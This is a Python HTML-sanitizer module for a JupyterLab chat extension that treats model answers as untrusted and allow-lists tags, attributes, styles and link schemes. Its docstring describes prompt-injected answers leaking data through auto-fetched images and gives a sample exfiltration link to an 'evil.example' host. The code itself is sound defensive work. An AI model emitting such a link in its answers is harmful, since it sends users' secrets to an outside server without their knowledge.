"""The nh3 allow-list every HTML fragment we emit goes through (model output is untrusted: docs/architecture.md).

Policy, in brief:
  * elements: headings, p, br, hr, em, strong, del, code, pre, blockquote, lists, tables, a, a disabled task-list
    checkbox, and span/div that carry only Pygments token classes or our own classes. Everything else is
    unwrapped (its text kept) except script/style, whose content is dropped too. Comments are dropped.
  * attributes: a[href, title], ol[start] (digits), code[class] (`language-xxx` only, for the front end's per-block
    Copy button), input[type=checkbox, disabled, checked], and `class` only with the values listed in `_CLASSES`.
    `style` only with the exact values the renderer writes (`_STYLES`): the code box and table-cell alignment,
    which must survive host CSS and untrusted notebooks. No `id`, no event handlers: nothing that is not listed.
  * links: absolute http, https and mailto URLs only (no javascript:/data:/vbscript:, and no relative URLs, which
    would point into the Jupyter server); every link gets rel="noopener noreferrer nofollow" and target="_blank"
    so that a click never navigates JupyterLab itself away.
  * no <img>: the renderer turns Markdown images into plain links before this point, because an image the browser
    fetches on its own lets a prompt-injected answer send data to any server without a click
    (`![](https://evil.example/?q=<secret>)`).
"""

from __future__ import annotations

import re
from collections.abc import Callable

import nh3
from pygments.token import STANDARD_TYPES

__all__ = ["WRAPPER_CLASS", "sanitize"]

WRAPPER_CLASS = "mmchat-md"
"""Class of the `<div>` that wraps every rendered answer (kept here so re-sanitizing keeps it)."""

NO_MATH_CLASS = "mathjax_ignore"
"""On the wrapper: JupyterLab's MathJax skips the answer except its `mathjax_process` formulas (money stays text)."""

CODE_BLOCK_CLASS = "highlight"
"""Class of the `<div>` around each highlighted code block; pygments_css() scopes its rules under it."""

MATH_CLASSES = frozenset({"mmchat-math", "mmchat-display", "mathjax_process"})
PIECE_CLASSES = frozenset({"mmchat-cut", "mmchat-cont"})
"""A huge block streamed in pieces: `mmchat-cut` continues in the next block, `mmchat-cont` continues the previous."""

BOX_STYLE = ("background:rgba(127,127,127,.1);border:1px solid rgba(127,127,127,.25);border-radius:6px;"
             "margin:0 0 1em;overflow-x:auto")
PRE_STYLE = "margin:0;padding:.6em .8em;background:transparent;line-height:1.45"
#: JupyterLab paints every `code` with the page background (an inline strip behind each line inside our grey box).
CODE_STYLE = "background:transparent;padding:0;border:0"
TABLE_STYLE = "margin:0 0 1em;table-layout:auto;border-collapse:collapse"
CELL_STYLES = frozenset(f"text-align:{side}" for side in ("left", "center", "right"))

_TAGS = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "span", "div", "input",
}
_ATTRIBUTES = {
    "a": {"href", "title"}, "ol": {"start"}, "code": {"class", "style"}, "input": {"type", "disabled", "checked"},
    "div": {"style"}, "pre": {"style"}, "table": {"style"}, "th": {"style"}, "td": {"style"},
}
_STYLES = {"div": {BOX_STYLE}, "pre": {PRE_STYLE}, "code": {CODE_STYLE}, "table": {TABLE_STYLE},
           "th": CELL_STYLES, "td": CELL_STYLES}
# Pygments writes one short class per token type (`k`, `s2`, `nf`, ...); no other span class is ours.
_PYGMENTS_CLASSES = {name for name in STANDARD_TYPES.values() if name}
_BLOCK_CLASSES = set(PIECE_CLASSES)
_CLASSES = {
    "span": _PYGMENTS_CLASSES | MATH_CLASSES,
    "div": {WRAPPER_CLASS, NO_MATH_CLASS, CODE_BLOCK_CLASS} | MATH_CLASSES | PIECE_CLASSES,
    "p": _BLOCK_CLASSES, "ul": _BLOCK_CLASSES | {"contains-task-list"}, "ol": _BLOCK_CLASSES | {"contains-task-list"},
    "table": _BLOCK_CLASSES, "blockquote": _BLOCK_CLASSES, "li": {"task-list-item"},
    "input": {"task-list-item-checkbox"},
}

_LANGUAGE_CLASS = re.compile(r"language-[\w#+.-]{1,40}")
_LINK_URL = re.compile(r"(?:https?|mailto):", re.IGNORECASE)


def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
    """Value checks the static allow-list cannot express; None drops the attribute."""
    if attribute == "href":
        # nh3 already rejects other schemes; this also rejects relative URLs (see the module docstring).
        return value if _LINK_URL.match(value) else None
    if attribute == "style":
        return value if value in _STYLES.get(tag, ()) else None
    if tag == "code" and attribute == "class":  # span/div/... classes are left to allowed_classes
        return value if _LANGUAGE_CLASS.fullmatch(value) else None
    if attribute == "start":
        return value if value.isdigit() and len(value) <= 9 else None
    if attribute == "type":
        return value if value == "checkbox" else None
    if attribute in ("disabled", "checked"):
        return ""
    return value


# Compiled once: every block of a streaming answer goes through it.
_CLEANER = nh3.Cleaner(
    tags=_TAGS,
    clean_content_tags={"script", "style"},
    attributes=_ATTRIBUTES,
    set_tag_attribute_values={"a": {"target": "_blank"}, "input": {"disabled": ""}},
    allowed_classes=_CLASSES,
    attribute_filter=_filter_attribute,
    url_schemes={"http", "https", "mailto"},
    link_rel="noopener noreferrer nofollow",
    strip_comments=True,
)

sanitize: Callable[[str], str] = _CLEANER.clean
"""sanitize(html) -> html: apply the allow-list above to an HTML fragment."""
